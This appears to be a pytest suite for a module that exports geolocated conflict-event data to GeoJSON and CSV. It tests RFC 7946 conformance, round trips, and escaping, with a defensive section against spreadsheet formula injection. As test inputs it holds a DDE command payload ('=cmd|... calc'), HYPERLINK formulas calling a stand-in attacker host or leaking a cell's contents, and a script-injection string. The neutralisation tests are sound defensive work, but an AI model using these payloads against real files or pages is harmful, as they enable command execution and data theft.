from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from shapely.geometry import Point, Polygon, mapping

from geo.errors import GeoError
from geo.export import (
    events_geojson_parts,
    events_geojson_text,
    events_to_csv,
    events_to_geojson,
    frame_geojson_text,
    frame_to_csv,
    frame_to_geojson,
    geojson_text,
    spreadsheet_safe,
)
from geo.schema import COLUMNS, CRS, Source, original_fields, validate_events
from tests.conftest import make_row

REQUIRED = {
    "event_id",
    "event_date",
    "event_type",
    "location",
    "township",
    "township_pcode",
    "fatalities_low",
    "fatalities_best",
    "fatalities_high",
    "injured",
    "sources",
}


def _check_rfc7946(doc: dict) -> None:
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert set(feature) == {"type", "geometry", "properties"}
        geom = feature["geometry"]
        if geom is not None and geom["type"] == "Point":
            lon, lat = geom["coordinates"]
            assert 92 < lon < 102
            assert 9 < lat < 29
            assert all(len(str(c).split(".")[-1]) <= 6 for c in (lon, lat))


def test_events_geojson_is_rfc7946(events: gpd.GeoDataFrame) -> None:
    doc = json.loads(json.dumps(events_to_geojson(events)))
    _check_rfc7946(doc)
    assert len(doc["features"]) == len(events)
    for feature in doc["features"]:
        props = feature["properties"]
        assert set(props) >= REQUIRED
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", props["event_date"])
        assert props["sources"][0]["publisher"]
    region_only = [f for f in doc["features"] if f["properties"]["geo_precision"] == 3]
    assert all(f["geometry"] is None for f in region_only)


def test_geojson_round_trip_through_geopandas(events: gpd.GeoDataFrame, tmp_path: Path) -> None:
    path = tmp_path / "events.geojson"
    path.write_text(json.dumps(events_to_geojson(events)), encoding="utf-8")
    back = gpd.read_file(path)
    assert back.crs == "EPSG:4326"
    assert back["event_id"].tolist() == events["event_id"].tolist()
    for original, restored in zip(events.geometry, back.geometry, strict=True):
        if original is None:
            assert restored is None
        else:
            assert original.distance(restored) < 1e-6


def test_csv_has_every_column_and_round_trips(events: gpd.GeoDataFrame) -> None:
    text = events_to_csv(events)
    back = pd.read_csv(io.StringIO(text))
    names = [c.name for c in COLUMNS]
    assert [c for c in back.columns if c != "source"] == names
    assert back["event_id"].tolist() == events["event_id"].tolist()
    first = json.loads(back.loc[0, "sources"])
    assert first[0]["publisher"] == events["sources"].iloc[0][0].publisher
    assert back["fatalities_best"].isna().sum() == events["fatalities_best"].isna().sum()


def test_frame_without_wgs84_is_refused(events: gpd.GeoDataFrame) -> None:
    with pytest.raises(GeoError, match="to_crs first"):
        frame_to_geojson(events.dropna(subset=["latitude"]).to_crs(32647))


# --- CSV injection: what a spreadsheet would run is written with a leading ' ------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("-", "'-"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (
            '=HYPERLINK("https://example.org/?q="&A1, "see")',
            '\'=HYPERLINK("https://example.org/?q="&A1, "see")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("Myitkyina", "Myitkyina"),
        ("a=1", "a=1"),
        ("2023-10-09", "2023-10-09"),
        ("", ""),
        ("'=1", "'=1"),
        ("ဗန်းမော်", "ဗန်းမော်"),
        (-5, -5),
        (-1.5, -1.5),
        (0, 0),
        (None, None),
    ],
)
def test_spreadsheet_safe(value: object, written: object) -> None:
    assert spreadsheet_safe(value) == written


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_frame_to_csv_neutralises_text_cells_only() -> None:
    frame = pd.DataFrame(
        {
            "count": pd.array([-5, 3, None], dtype="Int64"),
            "plain_int": [-1, 0, 1],
            "ratio": [-0.5, 1.0, float("nan")],
            "text": pd.array(["-5", "=1+1", None], dtype="string"),
            "text_arrow": pd.array(["@x", "ok", "+1"], dtype="string[pyarrow]"),
            "mixed": ["=a", -7, None],
            "kind": pd.Categorical(["+c", "d", "+c"]),
            "when": pd.to_datetime(["2023-10-09", "2023-10-10", None]),
            "=header": ["x", "y", "z"],
        }
    )
    header, *rows = _cells(frame_to_csv(frame))
    assert header == [
        "count",
        "plain_int",
        "ratio",
        "text",
        "text_arrow",
        "mixed",
        "kind",
        "when",
        "'=header",
    ]
    assert rows == [
        ["-5", "-1", "-0.5", "'-5", "'@x", "'=a", "'+c", "2023-10-09", "x"],
        ["3", "0", "1.0", "'=1+1", "ok", "-7", "d", "2023-10-10", "y"],
        ["", "1", "", "", "'+1", "", "'+c", "", "z"],
    ]
    assert frame.loc[0, "text"] == "-5", "the frame given is not changed"


def test_frame_to_csv_of_an_empty_frame() -> None:
    assert frame_to_csv(pd.DataFrame({"a": pd.array([], dtype="string")})) == "a\n"


HOSTILE = '=HYPERLINK("https://attacker.invalid","x")'


@pytest.fixture
def hostile_events() -> gpd.GeoDataFrame:
    return validate_events(
        pd.DataFrame(
            [
                make_row(
                    event_id="-1",
                    location=HOSTILE,
                    actor1="@actor",
                    notes="+note",
                    sources=[Source("=Publisher", url="https://example.org/a")],
                    fatalities_low=0,
                )
            ]
        )
    )


def test_events_csv_neutralises_every_text_field(hostile_events: gpd.GeoDataFrame) -> None:
    header, row = _cells(events_to_csv(hostile_events))
    cell = dict(zip(header, row, strict=True))
    assert cell["event_id"] == "'-1"
    assert cell["location"] == "'" + HOSTILE
    assert cell["actor1"] == "'@actor"
    assert cell["notes"] == "'+note"
    assert cell["source"] == "'=Publisher"
    assert json.loads(cell["sources"])[0]["publisher"] == "=Publisher"
    assert cell["fatalities_low"] == "0"
    assert cell["latitude"] == "24.78"


def test_geojson_keeps_values_as_they_are(hostile_events: gpd.GeoDataFrame) -> None:
    props = events_to_geojson(hostile_events)["features"][0]["properties"]
    assert props["event_id"] == "-1"
    assert props["location"] == HOSTILE
    assert props["actor1"] == "@actor"
    assert props["sources"][0]["publisher"] == "=Publisher"


# --- the GeoJSON text, written a column at a time ------------------------------------


def _plain(value: object) -> object:
    """A cell as the cell-by-cell writer this one replaced converted it."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and not np.isfinite(value):
        return None
    if isinstance(value, pd.Timestamp):
        return value.date().isoformat()
    if isinstance(value, np.generic):
        return _plain(value.item())
    if isinstance(value, tuple | list):
        return [v.to_dict() if isinstance(v, Source) else _plain(v) for v in value]
    return value


def _rounded(coords: object) -> object:
    if isinstance(coords, float | int):
        return round(float(coords), 6)
    return [_rounded(c) for c in coords]  # type: ignore[attr-defined]


def _reference(frame: gpd.GeoDataFrame) -> str:
    """The text a feature at a time: dictionaries built cell by cell, then json.dumps."""
    features = []
    for row in frame.itertuples(index=False):
        cells = row._asdict()
        geom = cells.pop(frame.geometry.name)
        shape = None if geom is None or geom.is_empty else mapping(geom)
        geometry = shape and {"type": shape["type"], "coordinates": _rounded(shape["coordinates"])}
        properties = {c: _plain(cells[c]) for c in frame.columns if c != frame.geometry.name}
        features.append({"type": "Feature", "geometry": geometry, "properties": properties})
    return (
        json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False) + "\n"
    )


def test_events_text_is_the_cell_by_cell_text(events: gpd.GeoDataFrame) -> None:
    names = [c.name for c in COLUMNS]
    frame = events[[*names, "geometry"]].copy()
    for column in ("latitude", "longitude"):
        frame[column] = [round(v, 6) for v in frame[column]]
    frame.columns = [*names, "geometry"]  # itertuples needs identifiers: these are
    assert events_geojson_text(events) == _reference(frame)


def test_text_and_dictionary_agree(events: gpd.GeoDataFrame) -> None:
    text = events_geojson_text(events)
    assert geojson_text(events_to_geojson(events)) == text
    assert json.loads(text) == events_to_geojson(events)
    assert text.endswith("}\n")
    _check_rfc7946(json.loads(text))


def test_latitude_and_longitude_are_the_rounded_point(events: gpd.GeoDataFrame) -> None:
    moved = events.copy()
    moved["latitude"] = moved["latitude"] + 1.23456789e-5
    moved["longitude"] = moved["longitude"] - 9.87654321e-5
    moved = moved.set_geometry(gpd.points_from_xy(moved["longitude"], moved["latitude"], crs=CRS))
    points = [f for f in events_to_geojson(moved)["features"] if f["geometry"]]
    assert points
    for feature in points:
        props = feature["properties"]
        assert feature["geometry"]["coordinates"] == [props["longitude"], props["latitude"]]
        assert all(len(str(v).split(".")[-1]) <= 6 for v in (props["latitude"], props["longitude"]))


HOSTILE_TEXT = [
    'say "hello"',
    "back\\slash \\u0041",
    "tab\tnew\nline\rreturn",
    "\x00\x01\x1f bell\x07",
    "ဗန်းမော် Bhamo",
    "line\u2028separator\u2029",
    "%s %d %% %(name)s",
    "</script><script>alert(1)</script>",
    "",
]


@pytest.mark.parametrize("value", HOSTILE_TEXT)
def test_text_cells_are_json_escaped(value: str) -> None:
    frame = gpd.GeoDataFrame(
        {
            "plain": pd.array([value, None], dtype="string"),
            "objects": [value, None],
            '%s key "quoted"': pd.array([value, value], dtype="string[pyarrow]"),
        },
        geometry=[Point(97.4, 25.4), None],
        crs=CRS,
    )
    text = frame_geojson_text(frame)
    assert text == _reference(frame.rename(columns={'%s key "quoted"': "key"})).replace(
        '"key"', json.dumps('%s key "quoted"')
    )
    first, second = (f["properties"] for f in json.loads(text)["features"])
    assert first == {"plain": value, "objects": value, '%s key "quoted"': value}
    assert second == {"plain": None, "objects": None, '%s key "quoted"': value}


def test_missing_and_non_finite_values_are_null() -> None:
    frame = gpd.GeoDataFrame(
        {
            "floats": [1.5, float("nan"), float("inf"), -0.0],
            "counts": pd.array([3, None, -5, 0], dtype="Int64"),
            "plain_int": [1, 2, 3, 2**62],
            "flag": [True, False, True, False],
            "when": pd.to_datetime(["2023-10-09", None, "1989-01-01", "2023-10-09"]),
            "kind": pd.Categorical(["a", None, "b", "a"]),
            "record": [{"a": None, "b": "x"}, None, {}, {"n": 1}],
            "mixed": ["text", float("nan"), float("-inf"), np.int64(7)],
        },
        geometry=[Point(97.0, 25.0), None, Point(), Point(float("nan"), 25.0)],
        crs=CRS,
    )
    text = frame_geojson_text(frame)
    features = json.loads(text)["features"]
    assert [f["properties"]["floats"] for f in features] == [1.5, None, None, -0.0]
    assert '"floats": -0.0' in text
    assert [f["properties"]["counts"] for f in features] == [3, None, -5, 0]
    assert [f["properties"]["plain_int"] for f in features] == [1, 2, 3, 2**62]
    assert [f["properties"]["flag"] for f in features] == [True, False, True, False]
    assert [f["properties"]["when"] for f in features] == [
        "2023-10-09",
        None,
        "1989-01-01",
        "2023-10-09",
    ]
    assert [f["properties"]["kind"] for f in features] == ["a", None, "b", "a"]
    assert [f["properties"]["mixed"] for f in features] == ["text", None, None, 7]
    assert [f["properties"]["record"] for f in features] == [
        {"a": None, "b": "x"},
        None,
        {},
        {"n": 1},
    ]
    assert [f["geometry"] for f in features] == [
        {"type": "Point", "coordinates": [97.0, 25.0]},
        None,
        None,
        None,
    ]


def test_other_shapes_are_written_whole() -> None:
    ring = Polygon([(97.1234567, 25.0), (97.2, 25.0), (97.2, 25.1), (97.1234567, 25.0)])
    frame = gpd.GeoDataFrame(
        {"band": ["0-10 km", "3d"]}, geometry=[ring, Point(97.0, 25.0, 120.0)], crs=CRS
    )
    assert frame_geojson_text(frame) == _reference(frame)
    polygon, point = (f["geometry"] for f in frame_to_geojson(frame)["features"])
    assert polygon["type"] == "Polygon"
    assert polygon["coordinates"][0][0] == [97.123457, 25.0]
    assert point == {"type": "Point", "coordinates": [97.0, 25.0, 120.0]}


def test_no_rows_is_an_empty_collection(events: gpd.GeoDataFrame) -> None:
    assert events_geojson_text(events.iloc[:0]) == '{"type": "FeatureCollection", "features": []}\n'
    assert frame_to_geojson(events.iloc[:0]) == {"type": "FeatureCollection", "features": []}


def test_text_refuses_a_frame_without_wgs84(events: gpd.GeoDataFrame) -> None:
    with pytest.raises(GeoError, match="to_crs first"):
        events_geojson_text(events.dropna(subset=["latitude"]).to_crs(32647))


def test_the_sources_own_fields_are_written_to_csv_as_json(events: gpd.GeoDataFrame) -> None:
    from geo.importers import import_bytes
    from tests.importers.conftest import acled_rows, to_csv

    imported = import_bytes(to_csv(acled_rows(events)), name="acled.csv", format="acled").events
    table = pd.read_csv(io.StringIO(events_to_csv(imported)), dtype=str)
    originals = [json.loads(cell) for cell in table["original"]]
    assert originals == [original_fields(o) for o in imported["original"]]
    assert table["original"].tolist() == imported["original"].tolist()  # the text kept
    assert originals[0]["event_id_cnty"] == imported.index[0]


def test_the_sources_own_fields_are_a_geojson_object(events: gpd.GeoDataFrame) -> None:
    from geo.importers import import_bytes
    from tests.importers.conftest import acled_rows, to_csv

    imported = import_bytes(to_csv(acled_rows(events)), name="acled.csv", format="acled").events
    written = [f["properties"]["original"] for f in events_to_geojson(imported)["features"]]
    assert written == [original_fields(o) for o in imported["original"]]
    assert written[0]["event_id_cnty"] == imported.index[0]
    assert events_to_geojson(events)["features"][0]["properties"]["original"] is None


@pytest.mark.parametrize("rows", [1, 2, 4, 100])
def test_geojson_in_parts_is_the_same_text(events: gpd.GeoDataFrame, rows: int) -> None:
    parts = list(events_geojson_parts(events, rows=rows))
    assert "".join(parts) == events_geojson_text(events)
    assert len(parts) == 2 + -(-len(events) // rows)
    assert "".join(events_geojson_parts(events.iloc[:0])) == events_geojson_text(events.iloc[:0])


def test_geojson_in_parts_refuses_a_frame_without_wgs84(events: gpd.GeoDataFrame) -> None:
    with pytest.raises(GeoError, match="RFC 7946"):
        next(events_geojson_parts(events.dropna(subset=["latitude"]).to_crs(32647)))
